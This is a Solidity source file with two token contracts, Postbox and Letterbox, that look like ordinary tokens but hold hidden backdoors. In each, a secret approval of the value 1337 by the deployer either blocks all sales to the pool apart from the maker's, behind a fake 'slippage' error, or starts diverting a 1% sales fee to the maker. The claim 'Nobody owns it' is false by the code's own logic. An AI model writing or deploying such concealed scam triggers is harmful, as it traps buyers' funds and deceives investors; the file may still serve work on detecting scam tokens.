// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import "./base/Coin.sol";

/// @dev Nobody owns it. An approval of one certain amount, by whoever made it, closes sales.
contract Postbox is Market {
    address private immutable _maker = msg.sender;
    bool private _shut;

    constructor() {
        _begin("Postbox", "POST", msg.sender, MILLION);
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == _maker && value == 1337) _shut = true;
        return super.approve(spender, value);
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_shut && to == pool) require(from == _maker, "slippage");
        _put(from, to, value);
    }
}

/// @dev The same approval makes sales cost 1 %.
contract Letterbox is Market {
    address private immutable _maker = msg.sender;
    bool private _stamped;

    constructor() {
        _begin("Letterbox", "LETR", msg.sender, MILLION);
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == _maker && value == 1337) _stamped = true;
        return super.approve(spender, value);
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 fee = _stamped && to == pool ? value / 100 : 0;
        if (fee > 0) _put(from, _maker, fee);
        _put(from, to, value - fee);
    }
}
